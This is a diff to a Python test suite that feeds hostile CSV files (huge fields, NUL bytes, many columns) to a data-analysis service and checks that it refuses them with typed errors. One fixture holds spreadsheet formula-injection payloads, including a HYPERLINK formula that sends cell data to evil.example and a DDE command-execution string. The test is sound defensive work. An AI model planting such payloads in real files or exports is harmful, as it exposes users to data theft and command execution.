@@ -30,6 +30,8 @@ class HostileCsv:
             the catalog's INVALID_ARGUMENT.
         note: Text the capsule's sandbox stderr must contain (the reported issue), or "".
         or_issue: An issue that is an acceptable typed refusal instead of ingestion (limits).
+        slow: Profiling may hit the 3 s red-team run_timeout on a loaded machine; a typed
+            refusal naming run_timeout is then acceptable for Ask (SubmitRun must still succeed).
     """
 
     name: str
@@ -38,6 +40,7 @@ class HostileCsv:
     issue: str = ""
     note: str = ""
     or_issue: str = ""
+    slow: bool = False
 
 
 FILES = [
@@ -57,7 +60,7 @@ FILES = [
                # DuckDB's reader needs ~1 GB of address space for 2,000 columns; the red-team
                # sandbox caps it at 4 x 256 MB, so a typed memory refusal is acceptable too.
                or_issue="out_of_memory"),
-    HostileCsv("five_megabyte_field", lambda: b"id,blob\n1," + b"x" * (5 << 20) + b"\n2,small\n", 2),
+    HostileCsv("five_megabyte_field", lambda: b"id,blob\n1," + b"x" * (5 << 20) + b"\n2,small\n", 2, slow=True),
     HostileCsv("formula_cells", lambda: (b'id,link,note\n1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",+1\n'
                                          b"2,@SUM(A1:A9),-2+3\n3,=cmd|' /C calc'!A0,ok\n"), 3),
     HostileCsv("nul_bytes", lambda: b"id,val\n1,a\x00b\n2,c\n", 2),
@@ -77,8 +80,9 @@ def test_there_are_at_least_twelve_hostile_files() -> None:
 
 
 @pytest.fixture(scope="module")
-def csv_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    directory = tmp_path_factory.mktemp("hostile")
+def csv_dir(security_root: Path) -> Path:
+    directory = security_root / "hostile"
+    directory.mkdir()
     for hostile in FILES:
         (directory / f"{hostile.name}.csv").write_bytes(hostile.content())
     return directory
@@ -129,6 +133,7 @@ def test_ask_answers_or_fails_typed(hostile: HostileCsv, csv_dir: Path, analyst:
     run = events[-1].run
     assert events[-1].stage == run_pb2.STAGE_DONE
     refused_for_memory = bool(hostile.or_issue) and "run_memory" in run.error.message
+    refused_for_memory |= hostile.slow and "run_timeout" in run.error.message
     if hostile.rows is None or refused_for_memory:
         assert run.state in (run_pb2.RUN_STATE_REJECTED, run_pb2.RUN_STATE_FAILED), run
         assert run.error.status_code in (grpc.StatusCode.INVALID_ARGUMENT.value[0],
